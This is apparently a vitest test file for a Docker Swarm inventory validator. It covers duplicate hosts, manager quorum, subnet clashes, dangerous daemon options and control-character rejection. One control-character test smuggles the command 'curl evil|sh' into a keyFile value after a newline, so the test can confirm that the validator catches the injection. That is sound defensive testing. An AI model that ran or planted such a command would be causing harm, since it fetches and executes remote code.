import { describe, expect, it } from 'vitest';
import type { Issue } from '../../../electron/engine/inventory';
import {
  formatIssue,
  formatIssues,
  toleratedFailures,
  validateInventory,
} from '../../../electron/engine/inventory';
import { exampleData, minimal, setAt } from './helpers';

function hosts(...list: Record<string, unknown>[]) {
  return minimal({ hosts: list });
}

describe('cross-host checks', () => {
  it('refuses the same address and port twice, but not the same address on another port', () => {
    const same = validateInventory(
      hosts({ address: '10.1.1.1', role: 'manager' }, { address: '10.1.1.1', port: 22 }),
    );
    expect(same.ok).toBe(false);
    expect(same.errors).toContainEqual(
      expect.objectContaining({
        path: 'hosts[1].address',
        host: '10.1.1.1',
        message: '10.1.1.1 port 22 is already host 1 (10.1.1.1)',
        localized: {
          message: {
            en: '10.1.1.1 port 22 is already host 1 (10.1.1.1)',
            'zh-CN': '10.1.1.1 端口 22 已是第 1 台主机（10.1.1.1）',
          },
          fix: expect.objectContaining({ 'zh-CN': '删除重复的主机，或改用其他地址或端口' }),
        },
      }),
    );
    const ports = validateInventory(
      hosts(
        { address: '127.0.0.1', port: 2201, role: 'manager' },
        { address: '127.0.0.1', port: 2202 },
      ),
    );
    expect(ports.errors).toEqual([]);
  });

  it('refuses duplicate hostnames regardless of case', () => {
    const result = validateInventory(
      hosts(
        { address: '10.1.1.1', hostname: 'node01', role: 'manager' },
        { address: '10.1.1.2', hostname: 'NODE01' },
      ),
    );
    expect(result.errors.map((issue) => issue.path)).toContain('hosts[1].hostname');
  });

  it('marks both rows of a duplicate: the first lists every host that repeats it', () => {
    const result = validateInventory(
      hosts(
        { address: '10.1.1.1', hostname: 'node01', role: 'manager' },
        { address: '10.1.1.2', hostname: 'node01' },
        { address: '10.1.1.1', hostname: 'node01' },
      ),
    );
    const at = (path: string) =>
      result.errors.filter((issue) => issue.path === path).map((issue) => issue.localized?.message);
    expect(at('hosts[0].address')).toEqual([
      {
        en: '10.1.1.1 port 22 is repeated by host 3 (10.1.1.1)',
        'zh-CN': '10.1.1.1 端口 22 与第 3 台主机（10.1.1.1）重复',
      },
    ]);
    expect(at('hosts[0].hostname')).toEqual([
      {
        en: 'hostname "node01" is used again by host 2 (10.1.1.2), host 3 (10.1.1.1)',
        'zh-CN': '主机名 "node01" 又被第 2 台主机（10.1.1.2）、第 3 台主机（10.1.1.1）使用',
      },
    ]);
    expect(at('hosts[1].hostname')).toHaveLength(1);
    expect(at('hosts[2].address')).toHaveLength(1);
  });

  it('refuses a hostname that equals another host’s address-based id', () => {
    const result = validateInventory(
      hosts({ address: 'node01', role: 'manager' }, { address: '10.1.1.2', hostname: 'node01' }),
    );
    for (const path of ['hosts[1].hostname', 'hosts[0].address']) {
      expect(result.errors).toContainEqual(
        expect.objectContaining({ path, message: expect.stringMatching(/two hosts/) }),
      );
    }
  });

  it('needs a manager', () => {
    const result = validateInventory(
      hosts({ address: '10.1.1.1' }, { address: '10.1.1.2', role: 'worker' }),
    );
    expect(result.ok).toBe(false);
    expect(result.errors).toContainEqual(
      expect.objectContaining({ path: 'hosts', message: 'no host is a manager' }),
    );
  });

  it('takes the role from defaults', () => {
    const data = hosts({ address: '10.1.1.1' });
    setAt(data, ['defaults', 'role'], 'manager');
    expect(validateInventory(data).ok).toBe(true);
  });

  it.each([
    [1, 0, false],
    [2, 0, true],
    [3, 1, false],
    [4, 1, true],
    [5, 2, false],
    [8, 3, true],
  ])('%i managers tolerate %i failures (even warning: %s)', (count, tolerated, warned) => {
    expect(toleratedFailures(count)).toBe(tolerated);
    const list = Array.from({ length: count }, (_, i) => ({
      address: `10.1.1.${i + 1}`,
      role: 'manager',
    }));
    const result = validateInventory(hosts(...list));
    expect(result.ok).toBe(true);
    const even = result.warnings.find((issue) => /tolerate/.test(issue.message));
    expect(even !== undefined).toBe(warned);
    if (count === 2) {
      expect(formatIssue(even as Issue)).toBe(
        'hosts: 2 managers tolerate no failure, same as 1: use an odd number of managers: 1, 3 or 5',
      );
      expect(even?.localized?.message['zh-CN']).toBe('2 个管理节点不能容忍任何故障，与 1 个相同');
    }
    expect(result.warnings.some((issue) => /at most 7/.test(issue.fix))).toBe(count > 7);
  });

  it('warns when the overlay subnet holds a host, docker0 or the ingress network', () => {
    const inLan = validateInventory(
      setAt(minimal(), ['swarm', 'network', 'subnet'], '192.168.11.0/24'),
    );
    expect(inLan.ok).toBe(true);
    expect(inLan.warnings.filter((issue) => issue.path === 'swarm.network.subnet')).toHaveLength(3);
    const docker0 = validateInventory(
      setAt(minimal(), ['swarm', 'network', 'subnet'], '172.17.5.0/24'),
    );
    expect(docker0.warnings).toContainEqual(
      expect.objectContaining({ message: expect.stringMatching(/docker0/) }),
    );
    const ingress = validateInventory(
      setAt(minimal(), ['swarm', 'network', 'subnet'], '10.0.0.0/16'),
    );
    expect(ingress.warnings).toContainEqual(
      expect.objectContaining({ message: expect.stringMatching(/ingress/) }),
    );
    // With bip moved, 172.17/16 is free again, and bip itself is what matters.
    const moved = minimal({
      docker: { daemon: { bip: '10.10.0.1/24' } },
      swarm: { network: { subnet: '172.17.0.0/24' } },
    });
    const movedResult = validateInventory(moved);
    expect(movedResult.warnings.some((issue) => /docker0/.test(issue.message))).toBe(false);
    expect(validateInventory(minimal()).warnings).toEqual([]);
  });

  it('warns about options that have no effect or are dangerous', () => {
    const data = minimal({
      prepare: { mirrorUrl: 'https://m.example' },
      docker: { mirror: 'aliyun', daemon: { hosts: ['tcp://0.0.0.0:2375'] } },
      swarm: { network: { encrypted: true } },
    });
    setAt(data, ['prepare', 'firewall'], 'leave');
    const paths = validateInventory(data).warnings.map((issue) => issue.path);
    expect(paths).toEqual(
      expect.arrayContaining([
        'prepare.mirrorUrl',
        'docker.mirror',
        'docker.daemon.hosts',
        'docker.daemon.hosts[0]',
        'swarm.network.encrypted',
      ]),
    );
  });

  it('warns about a host that names no login method and about capital letters', () => {
    const data = minimal({ defaults: {} });
    setAt(data, ['hosts', 0, 'hostname'], 'Node01');
    const result = validateInventory(data);
    expect(result.ok).toBe(true);
    expect(result.warnings).toContainEqual(
      expect.objectContaining({ path: 'hosts[1]', message: 'no login method is set' }),
    );
    expect(result.warnings).toContainEqual(
      expect.objectContaining({
        path: 'hosts[0].hostname',
        fix: expect.stringMatching(/"node01"/),
      }),
    );
  });
});

describe('control characters', () => {
  /** Every string leaf of the example, with its path. */
  function stringPaths(value: unknown, path: (string | number)[] = []): (string | number)[][] {
    if (typeof value === 'string') return [path];
    if (Array.isArray(value))
      return value.flatMap((item, index) => stringPaths(item, [...path, index]));
    if (typeof value === 'object' && value !== null)
      return Object.entries(value).flatMap(([key, item]) => stringPaths(item, [...path, key]));
    return [];
  }

  const data = exampleData();
  setAt(data, ['jumpHost'], {
    address: 'bastion.lab',
    user: 'jump',
    keyFile: '~/.ssh/jump',
    keyPassphraseEnv: 'JUMP_PASS',
  });
  setAt(data, ['hosts', 1, 'sudoPassword'], 'sudo-secret');
  setAt(data, ['hosts', 1, 'advertiseAddress'], '192.168.11.132');
  setAt(data, ['verify', 'imageArchive'], './busybox.tar');
  setAt(data, ['docker', 'offlineBundle'], './docker.tgz');
  setAt(data, ['docker', 'version'], '24.0.7');
  setAt(data, ['swarm', 'advertiseInterface'], 'ens33');
  const paths = stringPaths(data);

  it('covers many fields', () => {
    expect(validateInventory(data).ok).toBe(true);
    expect(paths.length).toBeGreaterThan(30);
  });

  it.each(['\n', '\r', '\u0000', '\u001b[31m', '\u2028', '\u202e'])(
    'refuses %j in every string field',
    (bad) => {
      for (const path of paths) {
        const copy = structuredClone(data);
        const node = path
          .slice(0, -1)
          .reduce<Record<string | number, unknown>>(
            (acc, key) => acc[key] as Record<string | number, unknown>,
            copy,
          );
        const key = path[path.length - 1] as string | number;
        node[key] = `${String(node[key])}${bad}x`;
        const result = validateInventory(copy);
        expect(result.ok, `accepted ${JSON.stringify(bad)} at ${path.join('.')}`).toBe(false);
        expect(result.errors.some((issue) => /contains a|not/.test(issue.message))).toBe(true);
      }
    },
  );

  it('refuses control characters in map keys too', () => {
    const result = validateInventory(setAt(minimal(), ['hosts', 0, 'labels'], { 'zone\nx': 'a' }));
    expect(result.ok).toBe(false);
  });

  it('names the character', () => {
    const result = validateInventory(setAt(minimal(), ['hosts', 0, 'keyFile'], '/k\ncurl evil|sh'));
    expect(result.errors).toContainEqual(
      expect.objectContaining({
        path: 'hosts[0].keyFile',
        message: 'contains a newline (U+000A)',
        fix: expect.stringMatching(/remove it/),
      }),
    );
  });
});

describe('formatIssues', () => {
  it('writes host and path the way the docs promise', () => {
    const result = validateInventory(
      hosts(
        { address: '192.168.1.11', role: 'manager' },
        { address: '192.168.1.12' },
        { address: '192.168.1.13', hostname: 'node_1' },
      ),
    );
    expect(formatIssues(result.errors)).toBe(
      `hosts[2] (192.168.1.13).hostname: "node_1" is not a valid hostname: use letters, digits and '-' (max 63), e.g. "node-1"`,
    );
    expect(formatIssues(result)).toMatch(/^error: hosts\[2\] \(192\.168\.1\.13\)\.hostname/);
  });

  it('puts the file position first and labels warnings', () => {
    const text = formatIssues(
      {
        errors: [{ path: 'docker.mirror', message: 'm', fix: 'f', line: 3, col: 5 }],
        warnings: [{ path: '', message: 'w', fix: '' }],
      },
      { fileName: 'lab.yaml' },
    );
    expect(text).toBe(
      'error: lab.yaml:3:5: docker.mirror: m: f\nwarning: lab.yaml: (inventory): w',
    );
  });
});
